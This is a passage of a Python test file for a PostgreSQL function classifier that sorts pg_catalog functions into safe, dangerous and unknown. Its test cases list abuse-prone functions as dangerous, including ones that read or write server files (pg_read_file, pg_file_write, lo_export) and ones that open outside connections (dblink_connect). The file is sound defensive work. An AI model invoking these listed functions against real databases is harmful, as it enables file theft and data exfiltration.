    assert pg_functions.PG_CATALOG_FUNCTIONS["lower"] == "i"
    assert pg_functions.PG_CATALOG_FUNCTIONS["now"] == "s"
    assert pg_functions.PG_CATALOG_FUNCTIONS["pg_sleep"] == "v"
    assert len(pg_functions.PG_CATALOG_FUNCTIONS) > 2000


def test_safe_volatile_list_is_current() -> None:
    """Every reviewed-safe entry still names a volatile pg_catalog function, none dangerous."""
    import fnmatch

    volatile = {n for n, v in pg_functions.PG_CATALOG_FUNCTIONS.items() if v == "v"}
    for entry in pg_functions.SAFE_VOLATILE:
        matches = fnmatch.filter(volatile, entry)
        assert matches, f"{entry} is not a volatile pg_catalog function any more"
        for name in matches:
            assert dangerous_reason(name) is None, name


def test_every_volatile_function_is_decided() -> None:
    for name, vol in pg_functions.PG_CATALOG_FUNCTIONS.items():
        info = classify_function(None, name)
        assert info.qualified == f"pg_catalog.{name}"
        if vol == "v":
            assert info.status in ("safe", "dangerous")
        else:
            assert info.status in ("safe", "dangerous")
            if info.status == "dangerous":  # stable/immutable but listed on purpose
                assert info.reason != pg_functions.UNREVIEWED_VOLATILE_REASON


@pytest.mark.parametrize(
    ("schema", "name", "status"),
    [
        (None, "lower", "safe"),
        ("pg_catalog", "lower", "safe"),
        ("public", "lower", "unknown"),
        (None, "LOWER", "unknown"),
        (None, "my_udf", "unknown"),
        (None, "random", "safe"),
        (None, "clock_timestamp", "safe"),
        (None, "setseed", "dangerous"),
        (None, "pg_sleep_for", "dangerous"),
        (None, "PG_SLEEP", "dangerous"),
        ("evil", "pg_read_file", "dangerous"),
        (None, "dblink_connect", "dangerous"),
        (None, "pg_file_write", "dangerous"),
        (None, "lo_export", "dangerous"),
        (None, "table_to_xml_and_xmlschema", "dangerous"),
        (None, "cursor_to_xmlschema", "dangerous"),
        (None, "txid_current_if_assigned", "dangerous"),
        (None, "pg_backup_start", "dangerous"),
        (None, "pg_stat_reset_shared", "dangerous"),
        (None, "pg_replication_origin_create", "dangerous"),
        (None, "pg_try_advisory_xact_lock", "dangerous"),
        (None, "pg_import_system_collations", "dangerous"),
        (None, "RI_FKey_cascade_del", "dangerous"),  # volatile, unreviewed by default
        (None, "pg_stat_get_activity", "safe"),
        (None, "pg_get_replication_slots", "safe"),
        (None, "current_setting", "safe"),
        (None, "currval", "safe"),
    ],
)
def test_classify_function(schema: str | None, name: str, status: str) -> None:
    assert classify_function(schema, name).status == status


def test_catalog_functions_flag_system_catalog() -> None:
    assert classify_function(None, "pg_stat_get_activity").catalog
    assert classify_function(None, "pg_show_all_settings").catalog
    assert not classify_function(None, "lower").catalog
    assert not classify_function("public", "pg_stat_get_activity").catalog


def test_dangerous_groups_have_reasons() -> None:
    for group in pg_functions.DANGEROUS:
        assert group.reason and group.patterns
    assert dangerous_reason("lower") is None
    assert "files" in (dangerous_reason("pg_read_binary_file") or "")
